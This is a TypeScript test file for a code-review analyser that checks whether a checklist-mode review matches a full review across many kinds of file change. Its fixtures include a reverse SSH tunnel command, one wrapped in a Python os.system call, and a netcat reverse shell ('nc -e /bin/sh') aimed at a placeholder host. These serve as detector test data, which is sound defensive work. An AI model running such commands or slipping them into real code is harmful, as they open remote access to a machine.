import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { fileURLToPath } from "node:url";
import { type Analyser, createAnalyser } from "../../../extension/core/analysis/analyser.ts";
import type { DocumentRequest } from "../../../extension/core/analysis/request.ts";
import type { Finding } from "../../../extension/core/base/finding.ts";
import { type Review, review } from "../../../extension/core/review/review.ts";
import { checkRunner } from "../../../extension/core/review/run-checks.ts";
import { compileGrammars } from "../../../scripts/compile-catalogue.ts";
import { changed, type Edit } from "../change/change-builder.ts";
import { loadGrammarAsset } from "../syntax/grammar-assets.ts";

const digest = (text: string) => createHash("sha256").update(text).digest("hex");
const tunnel = "ssh -R 9:localhost:22 h";
const lines = (...all: readonly string[]) => `${all.join("\n")}\n`;
const python = (...body: readonly string[]) =>
  lines("import os", "", "def f(a):", "    if not a:", "        raise ValueError(a)", ...body.map((line) => `    ${line}`));

/** Changes of every kind that one side's findings alone do not settle. */
const changes: Readonly<Record<string, readonly Edit[]>> = {
  "nothing found": [
    ["a.py", python("return 1"), python("return 2")],
    ["b.sh", "ls\n", "ls -l\n"],
  ],
  "a finding that stays": [["a.sh", lines(tunnel, "ls"), lines(tunnel, "ls -l")]],
  "a finding that comes, beside one that goes in another file": [
    ["a.sh", lines("ls", "ls"), lines("ls", tunnel)],
    ["b.sh", lines("nc -e /bin/sh h 1", "ls"), lines("ls")],
  ],
  "a finding that moves out of a file that is quiet now": [
    ["a.sh", lines("ls", "ls"), lines("ls", tunnel)],
    ["b.sh", lines(tunnel, "ls"), lines("ls")],
    ["c.py", python(`os.system("${tunnel}")`, "return 1"), python("return 2")],
  ],
  "a finding that moves out of a deleted file": [
    ["a.sh", "ls\n", lines("ls", tunnel)],
    ["b.sh", lines(tunnel, "ls"), undefined],
  ],
  "a finding in a renamed file": [
    ["old.sh", lines(tunnel, "1", "2", "3", "4"), undefined],
    ["new.sh", undefined, lines(tunnel, "1", "2", "3", "5")],
  ],
  "problems that were there and that came": [["a.sh", lines('"$X" a', "ls", "ls"), lines('"$X" a', "ls", '"$Y" b')]],
  "an ignore comment that was there, and one that came": [
    [
      "a.sh",
      lines("# countersign-ignore command/reverse-ssh-tunnel: agreed", tunnel, "ls"),
      lines(
        "# countersign-ignore command/reverse-ssh-tunnel: agreed",
        tunnel,
        "ls -l",
        "# countersign-ignore command/reverse-ssh-tunnel: new",
        `${tunnel}2`,
      ),
    ],
  ],
  "layout, a guard and a public name that are gone": [
    ["a.py", python("return g(a, 1)"), lines("import os", "", "def f(a):", "    return g(a,", "             1)")],
    ["b.py", python("return 1"), "import os\n"],
  ],
  "what is not text, does not parse, or is not known": [
    ["a.py", "def (\n", "def (\nx\n"],
    ["b.unknown", "a\n", "b\n"],
    ["c.py", "x = 1\n", "x = 1\n\u0000"],
  ],
};

/** What is gone asks nothing of a reader. */
const isThere = ({ state }: Finding): boolean => state !== "fixed";

describe("a review for a checklist", () => {
  let analyser: Analyser;
  before(async function () {
    this.timeout(60_000);
    analyser = await createAnalyser({
      catalogue: compileGrammars(fileURLToPath(new URL("../../../grammars", import.meta.url))).catalogue,
      loadAsset: loadGrammarAsset,
      digest,
      now: () => 0,
    });
  });

  const reviewed = async (
    edits: readonly Edit[],
    asks: "everything" | "checklist",
  ): Promise<{ result: Review; asked: DocumentRequest[] }> => {
    const asked: DocumentRequest[] = [];
    const result = await review(
      { change: changed(...edits), today: "2026-11-21", asks },
      {
        analyse: (request, deadline) => {
          asked.push(request);
          return analyser.analyse(request, deadline);
        },
        languageOf: (path, start) => analyser.languageOf(path, start),
        runChecks: checkRunner(analyser.catalogue, digest),
        deadline: 60_000,
      },
    );
    return { result, asked };
  };

  for (const [what, edits] of Object.entries(changes))
    it(`judges as any other: ${what}`, async () => {
      const [whole, own] = [await reviewed(edits, "everything"), await reviewed(edits, "checklist")];
      const counted = ({ verdict, units, findings, suppressed, problems }: Review) => ({
        verdict,
        units: units.map((unit) => ({ ...unit, findings: unit.findings.filter(isThere) })),
        findings: findings.filter(isThere),
        suppressed,
        problems,
      });
      assert.deepEqual(counted(own.result), counted(whole.result));
    });

  it("reads the base in full only where something is to be held against it", async () => {
    const inFull = async (name: string) => {
      const { asked } = await reviewed(changes[name] ?? [], "checklist");
      return asked.filter(({ isOnlyCompared }) => isOnlyCompared !== true).length;
    };
    assert.equal(await inFull("nothing found"), 2);
    assert.equal(await inFull("a finding that stays"), 2);
    assert.equal(await inFull("a finding that comes, beside one that goes in another file"), 4);
  });
});
